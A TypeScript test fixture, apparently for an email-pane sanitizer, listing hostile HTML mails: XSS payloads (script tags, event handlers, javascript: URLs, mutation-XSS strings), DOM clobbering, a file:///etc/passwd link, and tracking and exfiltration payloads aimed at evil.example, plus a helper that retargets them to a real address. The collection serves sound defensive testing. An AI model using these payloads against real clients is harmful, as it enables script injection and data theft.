/** Mails that mean harm: each tries one way out of the pane. `E` stands for an address of the attacker's. */
const E = 'http://evil.example';
const run = 'top.harmed=(top.harmed||0)+1,alert(1)';

/** Must not run, move, submit or cover anything. */
const running: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${E}/s.js"></script>`,
  `<script type="module">${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${E}/s.js"/></svg>`,
  `<img src="x" onerror="${run}">`,
  `<img src="data:," onerror="${run}">`,
  `<body onload="${run}">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  `<video src="x" onerror="${run}"><source onerror="${run}"></video><audio src="x" onerror="${run}"></audio>`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>`,
  `<div tabindex="0" onmouseover="${run}" onclick="${run}" style="position:absolute;inset:0">x</div>`,
  `<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationstart="${run}" ontransitionend="${run}">x</p>`,
  `<button popovertarget="p" onclick="${run}">x</button><div id="p" popover onbeforetoggle="${run}">x</div>`,
  `<dialog open onclose="${run}">x</dialog><marquee onstart="${run}">x</marquee>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${run}">x</button>`,
  `<form action="${E}/form" method="post"><input name="a" value="secret"><input type="image" src="x" formaction="${E}/f"><button autofocus>x</button></form>`,
  `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}"><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}"><meta http-equiv="refresh" content="0;url=${E}/refresh">`,
  '<meta http-equiv="refresh" content="0;url=/elsewhere"><meta http-equiv="content-security-policy" content="script-src *">',
  `<base href="${E}/"><base target="_top"><img src="based.png"><link rel="import" href="${E}/i">`,
  `<template shadowrootmode="open"><img src="x" onerror="${run}"></template>`,
  `<p style="behavior:url(${E}/htc);-moz-binding:url(${E}/xbl);width:expression(${run})">x</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<svg><foreignObject><body onload="${run}"><iframe srcdoc="<img src=x onerror=${run}>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  '<img name="getElementById"><img name="body"><form name="documentElement"><input name="children"></form><img id="__proto__">',
  `<form><input name="attributes"><input name="removeAttribute"></form><img src="x" onerror="${run}">`,
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">darüber</div>',
];

/** Must not lead anywhere; each is one link. */
export const links: readonly string[] = [
  `<a href="javascript:${run}">Klick</a>`,
  `<a href=" &#1;java&#10;script:${run}">Klick</a>`,
  '<a href="vbscript:msgbox(1)">Klick</a>',
  `<a href="data:text/html,<script>${run}</script>">Klick</a>`,
  `<a target="_top" href="JaVaScRiPt:${run}">Klick</a>`,
  `<a href="file:///etc/passwd">Klick</a>`,
  `<a href="blob:${E}/x">Klick</a>`,
];

/** Must not fetch anything. */
const tracking: readonly string[] = [
  `<img src="${E}/1" width="1" height="1">`,
  `<img srcset="${E}/2 1x, ${E}/3 2x"><picture><source srcset="${E}/4"><img></picture>`,
  `<img src="data:," lowsrc="${E}/5" dynsrc="${E}/6" longdesc="${E}/7" attributionsrc="${E}/8">`,
  `<input type="image" src="${E}/9"><body background="${E}/10"><table background="${E}/11"><td background="${E}/12">x</table>`,
  `<p style="background:url(${E}/13)">x</p><p style="background:u\\72l(${E}/14)">x</p>`,
  `<p style="background:image-set('${E}/15' 1x)">x</p><p style="background:-webkit-cross-fade(url(${E}/26),url(${E}/27),50%)">x</p>`,
  `<p style="list-style:url(${E}/16);display:list-item;border-image:url(${E}/17) 1">x</p>`,
  `<p style="content:url(${E}/18);cursor:url(${E}/19),auto">x</p>`,
  `<p style="mask:url(${E}/20);filter:url(${E}/21#a);clip-path:url(${E}/22#a);shape-outside:url(${E}/23)">x</p>`,
  `<p style="--u:url(${E}/24);background:var(--u)">x</p><p style="background:src('${E}/25')">x</p>`,
  `<style>@import "${E}/28";@import url(${E}/29);@namespace "${E}/36";@page{background:url(${E}/37)}</style>`,
  `<style>@font-face{font-family:q;src:url(${E}/30)}p{font-family:q}p::before{content:url(${E}/31)}</style><p>x</p>`,
  `<style>input[value^=s]{background:url(${E}/32)}[title^=g]{background:url(${E}/33)}</style><input value="secret"><p title="geheim">x</p>`,
  `<style>p:hover{background:url(${E}/34)}@media all{p{background:url(${E}/35)}}</style><p>x</p>`,
  `<link rel="stylesheet" href="${E}/38"><link rel="icon" href="${E}/39"><link rel="manifest" href="${E}/46">`,
  `<link rel="prefetch" href="${E}/40"><link rel="preload" as="image" href="${E}/41"><link rel="modulepreload" href="${E}/44"><link rel="prerender" href="${E}/45">`,
  `<link rel="preconnect" href="${E}"><link rel="dns-prefetch" href="${E}">`,
  `<video src="${E}/47" poster="${E}/48" autoplay muted></video><audio src="${E}/49" preload="auto"></audio>`,
  `<video preload="auto"><source src="${E}/50"><track default src="${E}/51"></video><bgsound src="${E}/62">`,
  `<iframe src="${E}/52"></iframe><iframe srcdoc="<img src='${E}/53'>"></iframe><object data="${E}/54"></object><embed src="${E}/55">`,
  `<svg><image href="${E}/56" xlink:href="${E}/57"/><use href="${E}/58#a"/><filter id="q"><feImage href="${E}/59"/></filter></svg>`,
  `<svg><rect width="9" height="9" fill="url(${E}/60#a)"/></svg><img src="//evil.example/61"><applet archive="${E}/63">x</applet>`,
  // Over TLS a connection that is only prepared can be seen, too.
  '<link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/64">',
  '<iframe src="https://evil.example/65"></iframe><object data="https://evil.example/66"></object><embed src="https://evil.example/67">',
  '<link rel="stylesheet" href="https://evil.example/68"><link rel="prefetch" href="https://evil.example/69"><img src="https://evil.example/70">',
  '<img src="/api/session"><img src="api/store"><p style="background:url(/api/style)">x</p><img src="/elsewhere">',
];

export const hostileMails: readonly string[] = [...running, ...links, ...tracking];
/** The same with a real address, at which somebody listens. */
export const aimedAt = (html: string, address: string): string =>
  html.replaceAll(E, address).replaceAll('//evil.example', address.replace('http:', ''));
